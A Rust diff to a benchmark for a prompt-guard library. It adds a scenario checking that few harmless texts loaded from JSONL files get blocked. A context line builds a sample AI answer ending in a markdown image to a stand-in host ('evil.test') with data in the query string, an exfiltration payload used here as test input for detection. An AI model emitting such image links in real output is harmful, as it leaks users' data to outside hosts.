@@ -13,7 +13,14 @@ use std::alloc::{GlobalAlloc, Layout, System};
 use std::cell::Cell;
 use std::hint::black_box;
 
-use guardrails_core::{Action, Csv, Guard, Input, Output, Unit, Vault};
+use guardrails_core::{Action, Csv, Guard, Input, Output, Source, Unit, Vault};
+
+/// A line of `models/texts`.
+#[derive(serde::Deserialize)]
+struct Text {
+    text: String,
+    label: String,
+}
 
 struct Counting;
 
@@ -57,12 +64,12 @@ fn main() {
         std::process::exit(2)
     };
     // `‖` keeps the secrets from looking alive in the repository.
-    let read = |name: &str| {
-        let path = format!("{folder}/{name}.txt");
+    let read = |name: &str, kind: &str| {
+        let path = format!("{folder}/{name}.{kind}");
         std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{path}: {error}")).replace('‖', "")
     };
     let [prose, languages, code, personal, secrets, attacks, slowest] =
-        ["prose", "languages", "code", "personal", "secrets", "attacks", "slowest"].map(read);
+        ["prose", "languages", "code", "personal", "secrets", "attacks", "slowest"].map(|name| read(name, "txt"));
     let guard = Guard::default();
     let [short, prompt, page, book] = [100, 1 << 10, 8 << 10, 64 << 10].map(|bytes| sized(&prose, bytes));
     let [languages, code] = [sized(&languages, 8 << 10), sized(&code, 8 << 10)];
@@ -74,10 +81,20 @@ fn main() {
     let table: String = std::iter::once("name,mail,card\n".to_owned())
         .chain((0..50).map(|row| format!("N{row},n{row}@example.com,4111111111111111\n")))
         .collect();
+    // Real wordings meet many more rules than a page of prose does: every third harmless text of our own.
+    let texts: Vec<(String, Source)> = [("user_en", Source::User), ("documents_en", Source::Document)]
+        .into_iter()
+        .flat_map(|(name, source)| {
+            let lines = read(&format!("../../guardrails-core/models/texts/{name}"), "jsonl");
+            let texts: Vec<Text> =
+                lines.lines().map(|line| serde_json::from_str(line).unwrap_or_else(|error| panic!("{name}: {error}"))).collect();
+            texts.into_iter().filter(|text| text.label == "benign").step_by(3).map(move |text| (text.text, source))
+        })
+        .collect();
     let answer = format!("Here is what you asked for.\n\n{page}\n![done](https://evil.test/p?d=QX-552319)");
 
     let clean = |text: &str| assert_eq!(guard.scan_input(black_box(text)).action, Action::Allow);
-    let scenarios: [Scenario<'_>; 13] = [
+    let scenarios: [Scenario<'_>; 14] = [
         ("build a guard", 0, Box::new(|| assert!(Guard::default().rules().count() > 1000))),
         ("clean prompt, 100 B", short.len(), Box::new(|| clean(&short))),
         ("clean prompt, 1 KB", prompt.len(), Box::new(|| clean(&prompt))),
@@ -85,6 +102,15 @@ fn main() {
         ("clean prose, 64 KB", book.len(), Box::new(|| clean(&book))),
         ("code, 8 KB", code.len(), Box::new(|| clean(&code))),
         ("ten languages, 8 KB", languages.len(), Box::new(|| clean(&languages))),
+        (
+            "harmless texts of our own",
+            texts.iter().map(|(text, _)| text.len()).sum(),
+            Box::new(|| {
+                let blocked =
+                    texts.iter().filter(|(text, source)| guard.scan_input(Input::new(black_box(text), *source)).action == Action::Block);
+                assert!(blocked.count() < texts.len() / 20, "harmless texts are blocked");
+            }),
+        ),
         (
             "attacks, plain and in disguise",
             attacks.len(),
